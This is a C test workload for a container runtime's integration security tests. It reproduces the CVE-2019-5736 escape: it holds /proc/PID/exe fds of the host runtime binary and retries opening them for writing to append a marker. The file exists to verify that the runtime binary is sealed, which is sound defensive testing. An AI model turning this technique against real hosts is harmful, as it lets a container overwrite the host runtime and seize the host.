/* A hostile workload for the CVE-2019-5736 class of tests (tests/integration/test_security.py):
 * run inside a container with CAP_SYS_PTRACE, it watches /proc for any process whose executable
 * has the host ocelot binary's size, keeps an O_RDONLY fd of it, and keeps trying to reopen that
 * fd for writing until the runtime has exited (while it runs, the kernel says ETXTBSY), then
 * appends a marker. It prints what it managed, one line per event:
 *   held PID          it got an fd of a process's exe of that size
 *   wrote N           it appended N bytes: the binary was reachable for writing (a sealed copy
 *                     opens for writing but takes no byte, and does not count)
 *   gave-up           nothing writable within the time
 * usage: ocelot-ptrace-attacker SIZE SECONDS */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 64

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  long long size = atoll(argv[1]);
  double end = now() + atof(argv[2]);
  int held[MAX_HELD];
  int nheld = 0;
  ino_t seen[MAX_HELD];
  setvbuf(stdout, NULL, _IONBF, 0);
  while (now() < end) {
    DIR* d = opendir("/proc");
    if (d) {
      struct dirent* e;
      while ((e = readdir(d)) && nheld < MAX_HELD) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0) continue;
        struct stat st;
        int keep = fstat(fd, &st) == 0 && st.st_size == size;
        for (int i = 0; keep && i < nheld; ++i)
          if (seen[i] == st.st_ino) keep = 0;
        if (!keep) {
          close(fd);
          continue;
        }
        seen[nheld] = st.st_ino;
        held[nheld++] = fd;
        printf("held %d\n", pid);
      }
      closedir(d);
    }
    for (int i = 0; i < nheld; ++i) {
      char path[64];
      snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
      int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
      if (w < 0) continue;
      ssize_t n = write(w, "\n#pwned-by-container\n", 21);
      close(w);
      if (n > 0) {
        printf("wrote %zd\n", n);
        return 0;
      }
      /* A sealed copy opens for writing but refuses every write: not a way in. */
    }
    usleep(200);
  }
  printf("gave-up\n");
  return 1;
}
